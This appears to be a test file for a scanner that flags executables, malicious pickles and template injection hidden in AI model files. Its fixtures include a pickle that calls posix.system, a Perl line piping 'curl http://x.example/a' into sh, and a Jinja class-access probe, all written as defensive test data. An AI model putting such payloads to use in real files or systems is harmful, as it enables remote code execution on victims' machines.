import { describe, expect, test } from 'vitest';
import { concat, latin1, u16, u32, utf8 } from '#formats/test-files/bytes';
import { makeGguf } from '#formats/test-files/gguf';
import { op, reduce, stream } from '#formats/test-files/pickle';
import { makeZip } from '#formats/test-files/zip';
import { scanBytes } from '../test-scan.ts';

const malicious = stream(reduce('posix', 'system', op.text('id')));
const elf = concat(latin1('\x7fELF\x02\x01\x01'), new Uint8Array(9), u16(3), new Uint8Array(200));
const windows = concat(latin1('MZ'), new Uint8Array(58), u32(64), latin1('PE\0\0'), new Uint8Array(200));
const apple = concat(Uint8Array.of(0xcf, 0xfa, 0xed, 0xfe), u32(7), u32(3), u32(2), new Uint8Array(100));
const portable = concat(latin1("MZqFpD='\n\n"), new Uint8Array(200));

describe('a program in place of a model', () => {
  test.each([
    ['ELF', elf],
    ['Windows', windows],
    ['Mach-O', apple],
    ['several systems', portable],
  ])('%s', (_name, bytes) => {
    const scan = scanBytes(bytes, 'model.safetensors');
    expect(scan.format.kind).toBe('executable');
    expect(scan).toMatchObject({ verdict: 'high', outcome: 'scanned' });
    expect(scan.rules).toContain('MDL-EXE-001');
  });

  test('of which the letters alone are there is none', () => {
    for (const bytes of [
      latin1('MZ and more words, but no program at all.'),
      latin1(`\x7fELF${'\xff'.repeat(50)}`),
      latin1('MZ\x00\x01\x02\x03'),
    ])
      expect(scanBytes(bytes).format.kind).not.toBe('executable');
  });
});

test('a llamafile is a program, and the model in the archive at its end is read', () => {
  const model = makeGguf({ pairs: [['tokenizer.chat_template', "{{ ''.__class__ }}"]] });
  const scan = scanBytes(concat(portable, makeZip([{ name: 'model.gguf', data: model }])));
  expect(scan.rules).toEqual(expect.arrayContaining(['MDL-EXE-001', 'MDL-EXE-003', 'MDL-TPL-001']));
  expect(scan.verdict).toBe('critical');
});

test('a program or script inside a container is told by its place', () => {
  const scan = scanBytes(
    makeZip([
      { name: 'lib/x.so', data: elf },
      { name: 'setup', data: utf8('#!/bin/sh\necho hello\n') },
    ]),
  );
  expect(scan.severities.get('MDL-EXE-002')).toBe('medium');
  expect(scan.severities.get('MDL-EXE-004')).toBe('low');
  expect(scan.observations.find((each) => each.ruleId === 'MDL-EXE-002')?.location.member).toBe('lib/x.so');
});

test('a script that runs what it downloads is told', () => {
  expect(scanBytes(utf8('#!/usr/bin/env perl\nsystem("curl http://x.example/a | sh");\n')).rules).toEqual(['MDL-EXE-004', 'MDL-EXE-005']);
});

test('a pickle behind letters of a program stays a pickle', () => {
  expect(scanBytes(malicious).verdict).toBe('critical');
});
